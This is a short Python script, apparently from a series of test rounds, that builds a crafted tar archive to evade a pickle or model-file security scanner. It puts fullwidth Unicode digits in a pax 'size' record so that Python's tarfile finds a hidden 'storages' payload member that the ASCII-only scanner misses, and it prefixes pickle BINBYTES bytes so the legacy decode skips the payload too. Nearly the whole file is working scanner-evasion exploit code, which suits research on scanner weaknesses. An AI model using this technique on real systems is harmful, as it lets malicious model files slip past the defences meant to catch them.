# HIGH: pax record "size=<fullwidth digits>". Python's int(str) maps any Unicode decimal digit
# (and Unicode whitespace) to ASCII, so tarfile gives the member 1024 bytes of data and reads the
# next header ("storages", the payload) 1024 bytes later. The scanner's pyInt only takes ASCII:
# it sets size 0, reads the next header in the data (zeros: end of archive) and never lists storages.
# Byte 0 (the pax header's name) is also PROTO 3 + BINBYTES spanning the whole file, so the
# legacy-stream decode (and any walk) skips the payload.
import sys, os, struct
import os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'round3'))
from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
digits = sys.argv[3] if len(sys.argv) > 3 else '\uff11\uff10\uff12\uff14'   # "1024" fullwidth
H0 = bytearray(pax([(b'size', digits.encode('utf-8'))]))
pad = hdr(b'pad', 0) + b'\0' * 1024                  # tarfile: data of 1024 bytes; scanner: next header = zeros
st = member(b'storages', payload(h))
body = bytes(H0) + pad + st + end()
L = len(body) - 7                                   # BINBYTES covers everything after its length field
H0[0:100] = b'\0' * 100
H0[0:7] = b'\x80\x03B' + struct.pack('<I', L)
H0[148:156] = b' ' * 8
H0[148:156] = b'%06o\0 ' % sum(H0[:512])
f = bytes(H0) + pad + st + end() + b'.'
open(out, 'wb').write(f)
